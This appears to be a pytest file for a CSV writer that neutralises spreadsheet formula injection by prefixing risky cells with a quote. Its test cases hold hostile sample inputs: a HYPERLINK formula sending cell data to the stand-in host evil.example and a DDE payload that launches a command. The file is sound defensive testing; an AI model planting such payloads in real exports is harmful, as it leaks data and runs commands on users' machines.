"""The one CSV writer every export uses: a cell never runs as a formula in a spreadsheet."""

import csv
import io
from decimal import Decimal

import pytest

from core import spreadsheets


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Công ty TNHH = tốt", "Công ty TNHH = tốt"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (Decimal("-1.5"), Decimal("-1.5")),
    ],
)
def test_cells_that_would_run_as_formulas_are_marked_as_text(value, cell):
    assert spreadsheets.safe_cell(value) == cell


def test_the_writer_marks_every_cell():
    buffer = io.StringIO()
    spreadsheets.writer(buffer).writerow(["=1+1", "ok", 3])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+1", "ok", "3"]
